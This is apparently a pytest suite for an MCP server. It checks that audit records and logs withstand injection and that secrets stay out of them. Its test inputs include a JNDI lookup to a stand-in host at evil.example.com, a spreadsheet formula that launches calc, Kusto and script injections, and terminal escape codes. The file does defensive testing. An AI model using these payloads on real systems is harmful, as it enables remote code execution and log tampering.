"""Attacks on what is written down: lines and colours put into it, secrets, and calls that leave nothing behind."""

from __future__ import annotations

import json
import logging
from typing import Annotated, Any

import pytest
from pydantic import Field

from identity.access import Access
from mcp_server.calls.audit_file import keep_in
from mcp_server.declarations.toolset import Toolset
from mcp_server.http import rest
from tests.attacks.office import visitor
from tests.attacks.place import Place, gains_nothing
from tests.mcp_server.caller import Caller, post
from tests.mcp_server.endpoints import new_endpoint
from tests.mcp_server.records import Records

pytestmark = pytest.mark.anyio

MARK = "marked-value-of-the-caller"
diary = Toolset("diary", "Keep a diary.")


@diary.tool(Access.WRITE, harmless=["page", "mood"])
async def note_down(
    page: Annotated[str, Field(description="Which page")],
    mood: Annotated[dict[str, Any] | list[Any] | int | float | None, Field(description="How it is")] = None,
) -> str:
    """Note something down."""
    return "noted"


LINES = {
    "a line": "x\naudit {}",
    "a line of another machine": "x\r\naudit {}",
    "a line of Unicode": "x\u2028audit {}",
    "a paragraph of Unicode": "x\u2029audit {}",
    "a next line": "x\x85audit {}",
    "a form feed": "x\x0caudit {}",
    "a nul": "x\0audit {}",
    "the end of a text in JSON": 'x","outcome":"done","x":"',
    "the end of a text, escaped": 'x\\","outcome":"done","x":\\"',
    "a format": "%s %d %n {0.__class__} {record}",
    "a look-up of another logger": "${jndi:ldap://evil.example.com/a}",
    "a formula": '=cmd|"/c calc"!A1',
    "a query of Kusto": "' | union SecurityEvent //",
    "what is active": "<script>alert(1)</script>",
    "half a character": "\ud800",
    "a megabyte": "m" * 1_000_000,
}


async def noted(records: Records, arguments: dict[str, Any]) -> dict[str, Any]:
    await Caller(new_endpoint(toolsets=[diary]), "all").send(
        "tools/call", {"name": "note_down", "arguments": arguments}
    )
    return records.only


@pytest.mark.parametrize("text", LINES.values(), ids=LINES)
async def test_a_value_stays_a_value_in_its_record(
    records: Records, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    record = await noted(records, {"page": text})
    assert list(record["arguments"]) == ["page"]
    assert len(record["arguments"]["page"]) <= 200
    (line,) = [entry.getMessage() for entry in caplog.records if entry.name == "audit"]
    assert line.isascii()
    assert line.isprintable()
    assert len(line) < 4096


MOODS: dict[str, Any] = {
    "a deep list": json.loads("[" * 200 + "]" * 200),
    "a long list": [0] * 9_000,
    "an object of secrets": {"password": MARK},
    "a large number": 10**400,
    "a number of two to the power of 64": 2**64,
    "a fraction": 1e308,
}


@pytest.mark.parametrize("mood", MOODS.values(), ids=MOODS)
async def test_a_value_of_any_kind_is_short_in_its_record(records: Records, mood: Any) -> None:
    record = await noted(records, {"page": "1", "mood": mood})
    assert len(json.dumps(record)) < 4096


COLOURS = {"of seven bits": "\x1b[2J\x1b[31m", "of eight bits": "\x9b2J\x9b31m", "of a title": "\x1b]0;evil\x07"}


@pytest.mark.parametrize("text", COLOURS.values(), ids=COLOURS)
async def test_a_record_that_is_shown_in_a_terminal_moves_nothing_there(
    records: Records, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    await noted(records, {"page": text})
    (line,) = [entry.getMessage() for entry in caplog.records if entry.name == "audit"]
    assert line.isascii()
    assert line.isprintable()


async def test_the_file_of_records_has_one_line_for_each(records: Records, tmp_path: Any) -> None:
    file = tmp_path / "audit.jsonl"
    logger = logging.getLogger("audit")
    keep_in(file)
    handler = logger.handlers[-1]
    try:
        for text in LINES.values():
            await noted(records, {"page": text})
    finally:
        logger.removeHandler(handler)
        handler.close()
    kept = file.read_bytes().split(b"\n")
    assert len(kept) == len(LINES) + 1
    assert {json.loads(line)["tool"] for line in kept[:-1]} == {"note_down"}


MADE_UP: dict[str, tuple[dict[str, str], dict[str, Any]]] = {
    "a name of an argument": ({}, {"words": "tea", MARK: 1}),
    "a value that is not harmless": ({}, {"words": MARK}),
    "a client that names itself": ({"user-agent": MARK}, {"words": "tea"}),
    "a trace that it says it is of": ({"traceparent": MARK}, {"words": "tea"}),
    "a baggage": ({"baggage": f"x={MARK}", "tracestate": f"x={MARK}"}, {"words": "tea"}),
    "an address that it says it comes from": ({"x-forwarded-for": MARK, "x-real-ip": MARK}, {"words": "tea"}),
    "a cookie": ({"cookie": MARK}, {"words": "tea"}),
    "a secret in the wrong header": ({"x-api-key": MARK, "authorization": f"Bearer {MARK}"}, {"words": "tea"}),
    "an invocation": ({"x-invocation": MARK, "x-ms-invocation-id": MARK}, {"words": "tea"}),
}


@pytest.mark.parametrize(("headers", "arguments"), MADE_UP.values(), ids=MADE_UP)
async def test_what_a_caller_makes_up_is_in_no_record_and_no_log(
    records: Records, caplog: pytest.LogCaptureFixture, headers: dict[str, str], arguments: dict[str, Any]
) -> None:
    caller = Caller(new_endpoint(), "all", headers)
    await caller.send("tools/call", {"name": "find_notes", "arguments": arguments})
    assert records.only["tool"] == "find_notes"
    assert MARK not in "\n".join(entry.getMessage() for entry in caplog.records)


CALLER_MADE = {
    "an id": lambda text: {"id": text, "method": "tools/list"},
    "a method": lambda text: {"id": 1, "method": text},
    "a name of a prompt": lambda text: {"id": 1, "method": "prompts/get", "params": {"name": text}},
    "an address of a resource": lambda text: {"id": 1, "method": "resources/read", "params": {"uri": f"x://{text}"}},
    "a request state": lambda text: {"id": 1, "method": "tools/list", "params": {"requestState": text}},
    "a cursor": lambda text: {"id": 1, "method": "tools/list", "params": {"cursor": text}},
    "a notification": lambda text: {"method": "notifications/" + text},
    "an answer": lambda text: {"id": text, "result": {}},
}


@pytest.mark.parametrize("make", CALLER_MADE.values(), ids=CALLER_MADE)
async def test_no_other_request_puts_lines_into_a_log(
    records: Records, caplog: pytest.LogCaptureFixture, make: Any
) -> None:
    text = f"{MARK}\r\naudit {{}}\x1b[31m"
    body = json.dumps({"jsonrpc": "2.0", **make(text)}).encode()
    await new_endpoint().handle(post(body, {"mcp-protocol-version": "2025-11-25"}), "all")
    assert not [entry for entry in caplog.records if f"{MARK}\r\n" in entry.getMessage()]


STEALTHY = {
    "a number of five thousand digits": b'{"text":' + b"9" * 5000 + b"}",
    "a number that is none": b'{"text":NaN}',
    "a name that is escaped": b'{"t\\u0065xt":"x"}',
    "a deep list": b'{"text":' + b"[" * 5000 + b"]" * 5000 + b"}",
    "half a character": b'{"text":"\\ud800"}',
    "a name twice": b'{"text":"x","text":"y"}',
    "an empty object": b"{}",
}


@pytest.mark.parametrize("inside", STEALTHY.values(), ids=STEALTHY)
async def test_no_form_of_arguments_hides_from_the_record_that_somebody_tried(records: Records, inside: bytes) -> None:
    start = b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"write_note","arguments":'
    request = post(start + inside + b"}}", {"mcp-protocol-version": "2025-11-25", "x-who": "eve Visitor"})
    answer = await visitor().endpoint.handle(request, "all")
    gains_nothing(answer, 400, 403)
    # What cannot be parsed asks for no tool, neither here nor there.
    assert b"Parse error" in answer.body or records.only["outcome"] == "denied"


METHODS = {
    "with escapes": b'"m\\u0065thod":"tools\\/c\\u0061ll"',
    "twice": b'"method":"tools/list","method":"tools/call"',
    "after all else": b'"x":1,"method":"tools/call"',
}


@pytest.mark.parametrize("method", METHODS.values(), ids=METHODS)
async def test_no_form_of_the_method_hides_it_either(records: Records, method: bytes) -> None:
    text = b'{"jsonrpc":"2.0","id":1,"params":{"name":"write_note","arguments":{"text":"x"}},' + method + b"}"
    request = post(text, {"mcp-protocol-version": "2025-11-25", "x-who": "eve Visitor"})
    gains_nothing(await visitor().endpoint.handle(request, "all"), 400, 403)
    assert [record["outcome"] for record in records.all] == ["denied"]


async def test_no_way_over_plain_http_hides_it_either(records: Records) -> None:
    request = post(b'{"tool":"write_note","arguments":{"text":"x"}}', {"x-who": "eve Visitor"})
    gains_nothing(await rest.execute(visitor().endpoint, request), 403)
    assert [(record["way"], record["outcome"]) for record in records.all] == [("rest", "denied")]


@pytest.fixture
async def secrets(place: Place) -> list[str]:
    return [place.issuer.token(), await place.token()]


@pytest.mark.parametrize(
    "path", ["/updates.csv?feed={address}", "/updates.csv?limit=x&feed={address}", "/x?t={address}"]
)
async def test_neither_tokens_nor_addresses_are_logged(
    place: Place, secrets: list[str], caplog: pytest.LogCaptureFixture, path: str
) -> None:
    token, address = secrets
    with caplog.at_level(logging.DEBUG):
        await place.get(path.format(address=address), authorization=f"Bearer {token}")
        await place.get(path.format(address=address[:-1]), authorization=f"Bearer {token[:-1]}")
    logged = "\n".join(entry.getMessage() for entry in caplog.records)
    assert token[:-4] not in logged
    assert address[:-4] not in logged
